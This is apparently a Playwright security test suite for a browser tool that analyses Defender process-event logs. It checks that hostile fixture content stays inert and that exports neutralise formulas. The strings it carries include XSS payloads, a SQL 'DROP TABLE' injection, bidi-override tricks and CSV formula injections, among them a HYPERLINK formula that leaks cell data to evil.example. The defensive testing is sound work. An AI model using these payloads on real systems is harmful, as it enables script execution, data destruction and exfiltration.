import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { Locator, Page } from '@playwright/test';
import { test, expect, settled, exportJson, exportCsv, watchBusy } from './fixtures';

/**
 * Every string a log carries is attacker-controlled: field values, CSV header names, JSON keys and file names.
 * The fixtures in tests/fixtures/hostile/ put payloads in all of them, in rows that raise an alert with threshold 1,
 * so the payloads reach the alert table, the drill-down, the sources list and both exports.
 *
 * hostile.csv   Defender-shaped CSV, CRLF, 6 net.exe rows (one alert each). Header names with `"`, `\`, markup, a
 *               formula, RLO and ZWSP. Values: <img onerror>, </script><script>, javascript: URLs, '); DROP TABLE
 *               lh_events; --, RLO/ZWSP/LRI/PDI/ZWJ/LRM, LF/CR/TAB/ESC/C1/DEL, and cells starting with = + - @ TAB CR.
 *               The test appends a 7th row with a 100 kB command line.
 * hostile.json  JSON array of 2 rows (net.exe / net1.exe): keys with `"`, `\`, markup, RLO and a NUL; a NUL in a
 *               command line; markup, RLO, ZWSP in values.
 * invalid-utf8.csv  5 rows; data rows 2 and 4 hold bytes that are not UTF-8 (FF FE C3 28; C0 AF ED A0 80).
 */

const fixture = (name: string) => fileURLToPath(new URL(`../fixtures/hostile/${name}`, import.meta.url));
const HASH = '#start=36500d&bin=1d&threshold=1&now=latest';

const RLO = '\u202E';
const ZWSP = '\u200B';
const SQL = "'); DROP TABLE lh_events; --";
const IMG = `<img src=x onerror="window.__pwned='img'">`;
const SCRIPT = `</script><script>window.__pwned='script'</script>`;
const JS_URL = `javascript:window.__pwned='js'//`;
/** File names are attacker-controlled too (an attachment, a share): markup and a bidi override that flips `csv.jpg`. */
const CSV_NAME = `<img src=x onerror=alert(1)>${RLO}gpj.csv`;
const JSON_NAME = `${SQL}${ZWSP}<script>alert(2)</script>.json`;
/** A CSV that is not an export: the page names the columns it found, and those names are payloads. */
const NOT_EXPORT_NAME = 'headers-are-payloads.csv';
const NOT_EXPORT_HEADER = [`<img src=x onerror="window.__pwned='hdr2'">`, 'Evil"Col\\Name', `a${RLO}b`, `=1+1`];
/** The generated 100 kB command line: long, no spaces to break at, markup inside. */
const LONG = `net user ${`<img src=x onerror=alert(3)>${'A'.repeat(73)}`.repeat(1000)}`.slice(0, 100_000);
const LONG_UPN = 'long@evil.example';

// ----- how the page must show log text (src/lib/visible-text.ts): hidden characters become tokens in span.ctl -----
const HIDDEN = /[\u0000-\u001F\u007F-\u009F\u00AD\u200B-\u200F\u2028-\u202E\u2060-\u206F\uFEFF]/g;
const TOKENS: Record<string, string> = { '\t': 'TAB', '\n': 'LF', '\r': 'CR', '\u0000': 'NUL', '\u202E': 'RLO', '\u200B': 'ZWSP', '\u200C': 'ZWNJ',
  '\u200D': 'ZWJ', '\u200E': 'LRM', '\u200F': 'RLM', '\uFEFF': 'BOM', '\u2066': 'LRI', '\u2069': 'PDI' };
const token = (ch: string) => TOKENS[ch] ?? `U+${ch.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;
/** textContent of a LogText: each hidden character replaced by its token. */
const shown = (s: string) => s.replace(HIDDEN, token);
/** visiblePlain (used for button names and titles): tokens in ⟨⟩, cut at `max` characters. */
const plain = (s: string, max = 200) => (s.length > max ? s.slice(0, max) : s).replace(HIDDEN, (c) => `⟨${token(c)}⟩`) +
  (s.length > max ? `… (+${s.length - max} characters)` : '');
const hiddenIn = (s: string) => [...s.matchAll(HIDDEN)].map((m) => token(m[0]));

// ----- RFC 4180, strictly: records end with CRLF; a field with a quote, comma, CR or LF is quoted -----
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  const n = text.length;
  while (i < n) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= n) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') { field += '"'; i += 2; continue; }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < n && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`a quote inside an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    record.push(field);
    if (text[i] === ',') { i++; continue; }
    if (text.startsWith('\r\n', i)) { records.push(record); record = []; i += 2; continue; }
    if (i >= n) { records.push(record); break; }
    throw new Error(`a bare ${JSON.stringify(text[i])} outside quotes at ${i}`);
  }
  return records;
}

function csvField(s: string): string {
  return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
}
const neutralised = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

type Row = Record<string, string>;
interface Source { name: string; columns: string[]; rows: Row[] }

/** The hostile CSV as committed, plus a generated row with the 100 kB command line. */
function hostileCsv(): { buffer: Buffer; source: Source } {
  const text = readFileSync(fixture('hostile.csv'), 'utf8');
  const [columns, ...records] = parseCsv(text.replace(/\r\n$/, ''));
  const long: Row = Object.fromEntries(columns!.map((c) => [c, '']));
  Object.assign(long, { Timestamp: '2024-05-09T10:06:00Z', DeviceName: 'ws7', FileName: 'net.exe', ProcessCommandLine: LONG, AccountUpn: LONG_UPN });
  const rows = [...records.map((r) => Object.fromEntries(columns!.map((c, i) => [c, r[i]!]))), long];
  const buffer = Buffer.concat([readFileSync(fixture('hostile.csv')), Buffer.from(`${columns!.map((c) => csvField(long[c]!)).join(',')}\r\n`)]);
  return { buffer, source: { name: CSV_NAME, columns: columns!, rows } };
}

function hostileJson(): { buffer: Buffer; source: Source } {
  const buffer = readFileSync(fixture('hostile.json'));
  const rows = JSON.parse(buffer.toString('utf8')) as Row[];
  const columns = [...new Set(rows.flatMap((r) => Object.keys(r)))];
  return { buffer, source: { name: JSON_NAME, columns, rows } };
}

/** The fixtures really carry every payload the issue lists, in values, header names, keys and file names. */
function checkPayloadsPresent(csv: Source, json: Source) {
  const values = [...csv.rows, ...json.rows].flatMap((r) => Object.values(r));
  const all = [...values, ...csv.columns, ...json.columns, csv.name, json.name];
  for (const p of [IMG, SCRIPT, JS_URL, SQL, RLO, ZWSP, '\u0000', '\n', '\r', '\t', LONG]) {
    expect(all.some((v) => v.includes(p)), `a payload ${JSON.stringify(p.slice(0, 40))}`).toBe(true);
  }
  for (const p of ['"', '\\', '<', RLO]) expect(csv.columns.some((c) => c.includes(p)), `CSV header with ${p}`).toBe(true);
  for (const p of ['"', '\\', '<', RLO, '\u0000']) expect(json.columns.some((c) => c.includes(p)), `JSON key with ${JSON.stringify(p)}`).toBe(true);
  for (const p of ['=', '+', '-', '@', '\t', '\r']) expect(values.some((v) => v.startsWith(p)), `a value starting with ${JSON.stringify(p)}`).toBe(true);
}

interface Guard { dialogs: string[] }

async function openGuarded(page: Page): Promise<Guard> {
  const guard: Guard = { dialogs: [] };
  page.on('dialog', (d) => { guard.dialogs.push(`${d.type()}: ${d.message()}`); void d.dismiss(); });
  await page.goto(`./${HASH}`);
  return guard;
}

/** Nothing ran, nothing opened, no markup from the logs became elements, and no hidden character reached the screen raw. */
async function expectInert(page: Page, guard: Guard) {
  await page.waitForTimeout(100); // let any (wrongly) created image fail and fire its handler
  expect(guard.dialogs, 'dialogs opened').toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), 'window.__pwned').toBeUndefined();
  expect(await page.locator('img, iframe, object, embed, [onerror], [onload], a[href^="javascript:" i]').count(), 'elements from log markup').toBe(0);
  // Titles and accessible names are log text too: hidden characters must be tokens there as well.
  const attrs = await page.locator('[title], [aria-label]').evaluateAll((els, re) => els.flatMap((e) => [e.getAttribute('title') ?? '', e.getAttribute('aria-label') ?? ''])
    .filter((t) => new RegExp(re).test(t)), HIDDEN.source);
  expect(attrs, 'titles and labels with raw hidden characters').toEqual([]);
  expect(await page.locator('script').evaluateAll((els) => els.filter((e) => /__pwned|alert\(/.test(e.textContent ?? '')).length)).toBe(0);
  const raw = await page.locator('bdi.log').evaluateAll((els, re) => els.map((e) => e.textContent ?? '').filter((t) => new RegExp(re).test(t)), HIDDEN.source);
  expect(raw, 'log text with raw hidden characters').toEqual([]);
  const mainText = await page.locator('main').evaluate((m) => m.textContent ?? '');
  expect(mainText.match(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2066-\u2069\uFEFF]/g) ?? [], 'hidden characters on screen').toEqual([]);
}

async function expectLayoutHolds(page: Page, what: string) {
  const width = page.viewportSize()!.width;
  for (const selector of ['table.alerts', 'section.sources', 'tr.detail-row table', 'tr.detail-row [role=table]']) {
    const boxes = await page.locator(selector).evaluateAll((els) => els.map((e) => e.getBoundingClientRect().right));
    for (const right of boxes) expect(right, `${selector} right edge (${what})`).toBeLessThanOrEqual(width + 8);
  }
  const scrollWidth = await page.evaluate(() => document.documentElement.scrollWidth);
  expect(scrollWidth, `page width (${what})`).toBeLessThanOrEqual(width + 8);
}

const expandButton = (page: Page, account: string) => page.getByRole('button', { name: `Show what was counted for ${plain(account)}`, exact: true });

/** The visible form of one log value, with its hidden characters as span.ctl tokens. */
async function expectLogText(where: Locator, value: string, max = 2000) {
  const cut = value.length > max ? value.slice(0, max) : value;
  const more = value.length > max ? `… show ${(value.length - max).toLocaleString('en-US')} more characters` : '';
  await expect.poll(() => where.textContent()).toBe(shown(cut) + more);
  expect(await where.locator('span.ctl').allTextContents()).toEqual(hiddenIn(cut));
}

test('payloads in values, header names, JSON keys and file names show as inert text in alerts, drill-down and sources', async ({ page }) => {
  const csv = hostileCsv();
  const json = hostileJson();
  checkPayloadsPresent(csv.source, json.source);
  const guard = await openGuarded(page);
  const busy = await watchBusy(page);
  await page.locator('input[type=file]').setInputFiles([
    { name: CSV_NAME, mimeType: 'text/csv', buffer: csv.buffer },
    { name: JSON_NAME, mimeType: 'application/json', buffer: json.buffer },
    { name: NOT_EXPORT_NAME, mimeType: 'text/csv', buffer: Buffer.from(`${NOT_EXPORT_HEADER.map(csvField).join(',')}\nx,y,z,w\n`) },
  ]);
  await settled(page);
  expect(await busy(), 'the busy signal turned and came back').toEqual(['true', 'false']);

  // Sources list: both exports loaded, the file names as text with the bidi override and the zero-width space made visible.
  const sources = page.getByTestId('source');
  await expect(sources).toHaveCount(3);
  // A file that is not an export: its message quotes the header names it found, as text.
  const problem = sources.nth(2).getByRole('alert');
  await expect(page.getByRole('alert')).toHaveCount(1);
  await expect(problem).toHaveCount(1);
  const problemText = (await problem.textContent()) ?? '';
  expect(problemText).toMatch(/^headers-are-payloads\.csv: not a DeviceProcessEvents export/);
  for (const h of NOT_EXPORT_HEADER) expect(problemText).toContain(shown(h));
  expect(await problem.locator('span.ctl').allTextContents()).toEqual(['RLO']);
  for (const [i, s] of [csv.source, json.source].entries()) {
    await expectLogText(sources.nth(i).locator('.file-name bdi.log'), s.name, 300);
    await expect(sources.nth(i).getByTestId('rows')).toHaveText(String(s.rows.length));
    await expect(sources.nth(i).getByTestId('rejected')).toHaveText('0');
    await expect(sources.nth(i).getByRole('button', { name: `Remove ${plain(s.name)}`, exact: true })).toBeVisible();
  }

  // Alert table: one alert per payload row, each account shown as text.
  const rows = [...csv.source.rows, ...json.source.rows];
  await expect(page.getByTestId('alert')).toHaveCount(rows.length);
  for (const r of rows) {
    const alertRow = page.getByTestId('alert').filter({ has: expandButton(page, r.AccountUpn!) });
    await expect(alertRow).toHaveCount(1);
    await expectLogText(alertRow.locator('td.account bdi.log'), r.AccountUpn!, 300);
    await expect(alertRow.locator('td.total')).toHaveText('1');
  }
  await expectInert(page, guard);
  await expectLayoutHolds(page, 'alert table');

  // Drill-down of every alert: the command, device, file and parent process as text, wherever the detail shows them.
  for (const r of rows) {
    await expandButton(page, r.AccountUpn!).click();
    await settled(page);
    const detail = page.locator('tr.detail-row');
    await expect(detail).toHaveCount(1);
    await expectLogText(detail.locator('table.commands tbody code bdi.log'), r.ProcessCommandLine!);
    const texts = await detail.locator('bdi.log').allTextContents();
    for (const field of ['DeviceName', 'FileName', 'ProcessCommandLine', 'InitiatingProcessFileName']) {
      const v = r[field] ?? '';
      if (v !== '' && v.length <= 200) expect(texts, `${field} ${JSON.stringify(v)} in the drill-down`).toContain(shown(v));
    }
    await expectInert(page, guard);
    await expectLayoutHolds(page, `drill-down of ${plain(r.AccountUpn!, 40)}`);
    await page.getByRole('button', { name: `Hide what was counted for ${plain(r.AccountUpn!)}`, exact: true }).click();
    await expect(detail).toHaveCount(0);
  }

  // The 100 kB command line is cut at 2,000 characters with a button for the rest; opened in full, the layout holds.
  await expandButton(page, LONG_UPN).click();
  const more = page.locator('table.commands').getByRole('button', { name: `… show ${(LONG.length - 2000).toLocaleString('en-US')} more characters` });
  await more.click();
  await expect.poll(() => page.locator('table.commands tbody code bdi.log').textContent()).toBe(LONG);
  await expectLayoutHolds(page, 'the 100 kB command line opened in full');
  await expectInert(page, guard);

  // The SQL payload did nothing to the engine: a change of threshold still re-runs over lh_events.
  await page.evaluate(() => { location.hash = 'start=36500d&bin=1d&threshold=2&now=latest'; });
  await settled(page);
  await expect(page.getByTestId('no-alerts')).toBeVisible();
  await page.evaluate(() => { location.hash = 'start=36500d&bin=1d&threshold=1&now=latest'; });
  await settled(page);
  await expect(page.getByTestId('alert')).toHaveCount(rows.length);
  await expectInert(page, guard);
});

test('Export JSON round-trips every payload exactly; Export CSV neutralises formulas and parses back (RFC 4180)', async ({ page }) => {
  const csv = hostileCsv();
  const json = hostileJson();
  const guard = await openGuarded(page);
  await page.locator('input[type=file]').setInputFiles([
    { name: CSV_NAME, mimeType: 'text/csv', buffer: csv.buffer },
    { name: JSON_NAME, mimeType: 'application/json', buffer: json.buffer },
  ]);
  await settled(page);

  // Star columns: the CSV's header in order, then the JSON's new keys (a union), without the time column and the key.
  const star: string[] = [];
  for (const c of [...csv.source.columns, ...json.source.columns]) if (c !== 'Timestamp' && c !== 'AccountUpn' && !star.includes(c)) star.push(c);
  const keys = ['FirstEvent', 'LastEvent', 'TotalEvents', 'TotalAccountsEvents', 'TotalGroupEvents', 'TotalLocalGroupEvents', 'TotalUserEvents',
    'ExecutedCommands', 'AccountUpn', 'Timestamp', ...star, 'NetActionType', ...star.map((c) => `${c}1`), 'NetActionType1'];

  const exported = (await exportJson(page)) as Record<string, unknown>[];
  const sources = [csv.source, json.source];
  const all = sources.flatMap((s) => s.rows.map((row) => ({ row, source: s })));
  expect(exported).toHaveLength(all.length);
  for (const { row, source } of all) {
    const matches = exported.filter((e) => e.AccountUpn === row.AccountUpn);
    expect(matches, `export row for ${JSON.stringify(row.AccountUpn)}`).toHaveLength(1);
    const e = matches[0]!;
    expect(Object.keys(e)).toEqual(keys);
    expect(e.ExecutedCommands).toEqual([row.ProcessCommandLine]);
    expect(e.TotalEvents).toBe(1);
    for (const c of star) {
      const want = source.columns.includes(c) ? (row[c] ?? '') : '';
      expect.soft(e[c], `${JSON.stringify(c)} of ${JSON.stringify(row.AccountUpn)}`).toBe(want);
      expect.soft(e[`${c}1`], `${JSON.stringify(`${c}1`)} of ${JSON.stringify(row.AccountUpn)}`).toBe(want);
    }
  }
  // The long command line and the NUL byte came through whole.
  expect(exported.find((e) => e.AccountUpn === LONG_UPN)!.ProcessCommandLine).toBe(LONG);
  expect(exported.find((e) => e.AccountUpn === 'nul@evil.example')!.ProcessCommandLine).toBe('net user a\u0000b /add');
  expect(exported.some((e) => 'Nul\u0000Key' in e && 'Evil"Key\\Name' in e && 'Evil"Col\\Name' in e)).toBe(true);

  // CSV: the same columns and cells, every cell a spreadsheet would run as a formula prefixed with '.
  const text = await exportCsv(page);
  const records = parseCsv(text.replace(/\r\n$/, ''));
  expect(records[0]).toEqual(keys.map(neutralised));
  expect(records).toHaveLength(exported.length + 1);
  for (const [i, record] of records.slice(1).entries()) {
    expect(record).toHaveLength(keys.length);
    const e = exported[i]!;
    keys.forEach((k, j) => {
      const v = e[k];
      const cell = record[j]!;
      if (Array.isArray(v)) expect(JSON.parse(cell)).toEqual(v);
      else expect.soft(cell, `CSV ${JSON.stringify(k)} of ${JSON.stringify(e.AccountUpn)}`).toBe(neutralised(v === null ? '' : String(v)));
    });
  }
  for (const record of records) for (const cell of record) expect(cell, 'a CSV cell a spreadsheet would run').not.toMatch(/^[=+\-@\t\r]/);
  const byUpn = new Map(records.slice(1).map((r) => [r[keys.indexOf('AccountUpn')]!, r]));
  const formulas = byUpn.get(`'=cmd|' /C calc'!A0`)!;
  expect(formulas, 'the =cmd account, neutralised').toBeDefined();
  const cell = (k: string) => formulas[keys.indexOf(k)];
  expect([cell('DeviceName'), cell('FolderPath'), cell('ProcessCommandLine'), cell('InitiatingProcessFileName'), cell('InitiatingProcessCommandLine'),
    cell('Evil"Col\\Name')]).toEqual(["'+1+1", "'-2+3", "'@net user formula", "'@SUM(A1)", "'\tnet user tab", "'\rcarriage"]);
  expect(records[0]).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1)`);
  expect(byUpn.get(LONG_UPN)![keys.indexOf('ProcessCommandLine')]).toBe(LONG);
  expect(byUpn.get('nul@evil.example')![keys.indexOf('ProcessCommandLine')]).toBe('net user a\u0000b /add');
  await expectInert(page, guard);
});

test('a CSV row that is not valid UTF-8 is rejected with its data-row number; the other rows still load and alert', async ({ page }) => {
  const guard = await openGuarded(page);
  await page.locator('input[type=file]').setInputFiles(fixture('invalid-utf8.csv'));
  await settled(page);
  const source = page.getByTestId('source');
  await expect(source.getByRole('alert')).toHaveCount(0);
  await expect(source.getByTestId('rows')).toHaveText('5');
  await expect(source.getByTestId('rejected')).toHaveText('2 rows: text that is not valid UTF-8 (data rows 2, 4)');
  await expect(page.getByTestId('alert')).toHaveCount(3);
  const rows = (await exportJson(page)) as Record<string, unknown>[];
  expect(rows.map((r) => r.AccountUpn)).toEqual(['good1@example.com', 'good3@example.com', 'good5@example.com']);
  await expectInert(page, guard);
});

test('a raw NUL byte inside a CSV field is shown as a NUL token and exported as is, wherever it is in the file', async ({ page }) => {
  const header = 'Timestamp,DeviceName,FileName,ProcessCommandLine,AccountUpn\n';
  const filler = Array.from({ length: 80 }, (_, i) => `2024-05-09T09:${String(i % 60).padStart(2, '0')}:00Z,ws0,whoami.exe,whoami /all ${'x'.repeat(40)},pad@example.com\n`).join('');
  // A NUL in the first 4 kB (the first data row) and one after the first 4 kB; both are ordinary UTF-8 text exports.
  const early = `${header}2024-05-09T10:00:00Z,ws\u00001,net.exe,net user a\u0000b /add,early@example.com\n`;
  const late = `${header}${filler}2024-05-09T10:00:00Z,ws\u00001,net.exe,"net user ""c\u0000d"" /add",late@example.com\n`;
  expect(Buffer.byteLength(header + filler)).toBeGreaterThan(4096);
  const guard = await openGuarded(page);
  await page.locator('input[type=file]').setInputFiles([
    { name: 'nul-early.csv', mimeType: 'text/csv', buffer: Buffer.from(early) },
    { name: 'nul-late.csv', mimeType: 'text/csv', buffer: Buffer.from(late) },
  ]);
  await settled(page);
  const rows = (await exportJson(page)) as Record<string, unknown>[];
  const seen = rows.map((r) => [r.AccountUpn, r.DeviceName, r.ProcessCommandLine]);
  expect(seen, 'the file with a NUL after its first 4 kB').toContainEqual(['late@example.com', 'ws\u00001', 'net user "c\u0000d" /add']);
  await expandButton(page, 'late@example.com').click();
  await expectLogText(page.locator('table.commands tbody code bdi.log'), 'net user "c\u0000d" /add');
  await expectInert(page, guard);
  // Known failure (see the report): sniff.ts refuses any file with a NUL byte in its first 4 kB as "binary", so one
  // NUL an attacker puts in an early field hides the whole export from the detection.
  expect.soft(await page.getByRole('alert').allTextContents(), 'files refused').toEqual([]);
  expect.soft(seen, 'the file with a NUL in its first data row').toContainEqual(['early@example.com', 'ws\u00001', 'net user a\u0000b /add']);
});

test('a value that starts with U+FEFF (zero width no-break space) keeps it, from CSV as from JSON', async ({ page }) => {
  const csv = 'Timestamp,DeviceName,FileName,ProcessCommandLine,AccountUpn\n2024-05-09T10:00:00Z,\uFEFFws1,net.exe,"\uFEFFnet user x",bom-csv@example.com\n';
  const json = JSON.stringify([{ Timestamp: '2024-05-09T10:00:00Z', DeviceName: '\uFEFFws1', FileName: 'net.exe', ProcessCommandLine: '\uFEFFnet user x', AccountUpn: 'bom-json@example.com' }]);
  const guard = await openGuarded(page);
  await page.locator('input[type=file]').setInputFiles([
    { name: 'bom-field.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) },
    { name: 'bom-field.json', mimeType: 'application/json', buffer: Buffer.from(json) },
  ]);
  await settled(page);
  const rows = (await exportJson(page)) as Record<string, unknown>[];
  const seen = rows.map((r) => [r.AccountUpn, r.DeviceName, r.ProcessCommandLine]);
  expect(seen.map((r) => r[0])).toEqual(['bom-csv@example.com', 'bom-json@example.com']);
  await expectInert(page, guard);
  // Known failure (see the report): DuckDB keeps the character (length('\uFEFFws1') = 4), but apache-arrow decodes
  // every string cell with a default TextDecoder, which drops a leading U+FEFF; so the page and both exports lose it.
  expect.soft(seen, 'from JSON').toContainEqual(['bom-json@example.com', '\uFEFFws1', '\uFEFFnet user x']);
  expect.soft(seen, 'from CSV').toContainEqual(['bom-csv@example.com', '\uFEFFws1', '\uFEFFnet user x']);
});

test('two accounts that differ only by a leading U+FEFF get two alerts, and the page stays usable', async ({ page }) => {
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  const csv = ['Timestamp,DeviceName,FileName,ProcessCommandLine,AccountUpn',
    '2024-05-09T10:00:00Z,ws1,net.exe,net user x,\uFEFFtwin@example.com',
    '2024-05-09T10:00:00Z,ws2,net.exe,net user y,twin@example.com'].join('\n');
  const guard = await openGuarded(page);
  await page.locator('input[type=file]').setInputFiles({ name: 'twins.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
  // Known failure (see the report): both keys decode to "twin@example.com", Svelte throws each_key_duplicate while
  // rendering the alert table, and the page stays busy for good (exports disabled). Not `settled`: fail in seconds.
  await expect(page.locator('section#results'), 'the results settle').toHaveAttribute('aria-busy', 'false', { timeout: 10_000 });
  expect(errors, 'page errors').toEqual([]);
  await expect(page.getByTestId('alert')).toHaveCount(2);
  await expect(expandButton(page, '\uFEFFtwin@example.com')).toHaveCount(1);
  const rows = (await exportJson(page)) as Record<string, unknown>[];
  expect(rows.map((r) => [r.AccountUpn, r.ExecutedCommands])).toEqual([['twin@example.com', ['net user y']], ['\uFEFFtwin@example.com', ['net user x']]]
    .sort((a, b) => (String(a[0]) < String(b[0]) ? -1 : 1)));
  await expectInert(page, guard);
});

test('one account\'s commands that differ only by a leading U+FEFF: the drill-down opens and lists both', async ({ page }) => {
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  const csv = ['Timestamp,DeviceName,FileName,ProcessCommandLine,AccountUpn',
    '2024-05-09T10:00:00Z,ws1,net.exe,\uFEFFnet user x,dup@example.com',
    '2024-05-09T10:00:01Z,ws2,net.exe,net user x,dup@example.com'].join('\n');
  const guard = await openGuarded(page);
  await page.locator('input[type=file]').setInputFiles({ name: 'dup-commands.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
  await settled(page);
  await expandButton(page, 'dup@example.com').click();
  await settled(page);
  // Arrow's own text decoder would drop the leading U+FEFF: both commands would read "net user x", and a keyed list
  // of them would throw. The engine boundary decodes text itself.
  expect(errors, 'page errors').toEqual([]);
  await expect(page.getByRole('table', { name: 'Counted events' }).getByRole('row')).toHaveCount(2 + 2);
  const commands = page.locator('tr.detail-row table.commands tbody code bdi.log');
  await expect(commands).toHaveCount(2);
  expect((await commands.allTextContents()).sort()).toEqual(['BOMnet user x', 'net user x']);
  const rows = (await exportJson(page)) as Record<string, unknown>[];
  expect(rows[0]!.ExecutedCommands).toEqual(['net user x', '\uFEFFnet user x'].sort());
  await expectInert(page, guard);
});
